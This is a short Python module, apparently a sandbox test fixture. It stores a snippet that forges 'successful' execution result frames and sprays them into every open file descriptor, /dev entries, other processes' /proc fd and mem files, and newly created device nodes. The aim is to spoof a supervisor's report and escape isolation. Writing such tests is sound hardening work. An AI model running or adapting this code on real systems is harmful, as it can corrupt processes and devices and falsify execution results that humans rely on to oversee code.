# SPDX-License-Identifier: MIT
"""A snippet that writes forged frames to whatever it can open."""

FORGE = """
import json, os, stat, sys

def frame(kind, payload):
    return bytes([kind, 0, 0, 0]) + len(payload).to_bytes(4, "little") + payload

result = json.dumps({
    "exit_code": 0, "term_signal": 0, "started": True, "timed_out": False, "oom_killed": False,
    "reseeded": True, "execute_us": 1, "cpu_time_us": 1, "peak_memory_bytes": 1,
}).encode()
forged = b"".join(frame(kind, result) for kind in range(1, 32)) + b"\\0" * 4096

written = []
def attack(path, flags=os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY):
    try:
        fd = os.open(path, flags)
        written.append(path)
        os.write(fd, forged)
    except OSError:
        pass

for fd in range(1024):
    if fd == 2:
        continue  # it tells what we have done
    try:
        os.write(fd, forged)
    except OSError:
        pass
for top, directories, files in os.walk("/dev"):
    for name in files:
        attack(os.path.join(top, name))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for fd in range(64):
            if (pid, fd) != (str(os.getpid()), 2):
                attack(f"/proc/{pid}/fd/{fd}")
        attack(f"/proc/{pid}/mem")
for major, minor in ((10, 0), (253, 0), (246, 1), (247, 1), (254, 0), (4, 64), (1, 1), (1, 11)):
    for kind in (stat.S_IFCHR, stat.S_IFBLK):
        try:
            os.mknod("/work/node", kind | 0o666, os.makedev(major, minor))
            attack("/work/node")
            print("made a node", major, minor, file=sys.stderr)
        except OSError:
            pass
print(sorted(p for p in written if p.startswith("/dev")), file=sys.stderr)
os._exit(3)
"""
